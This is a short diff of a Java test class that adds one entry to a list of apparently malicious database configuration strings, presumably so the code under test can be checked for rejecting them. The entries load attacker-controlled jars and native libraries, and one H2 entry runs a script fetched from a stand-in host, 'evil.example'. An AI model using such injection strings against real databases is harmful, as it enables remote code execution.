@@ -124,6 +124,7 @@ class ReproduceIT {
         "rocksdb-c{library=src}",
         "mysql{my.cnf=src}",
         "rocksdb@com.example:evil:1.0",
+        "rocksdb{jar=evil.jar}",
         "wiredtiger{extensions=[/tmp/evil.so]}",
         "wiredtiger{extensions=[evil.so]}",
         "h2{INIT=RUNSCRIPT FROM 'http://evil.example'}",
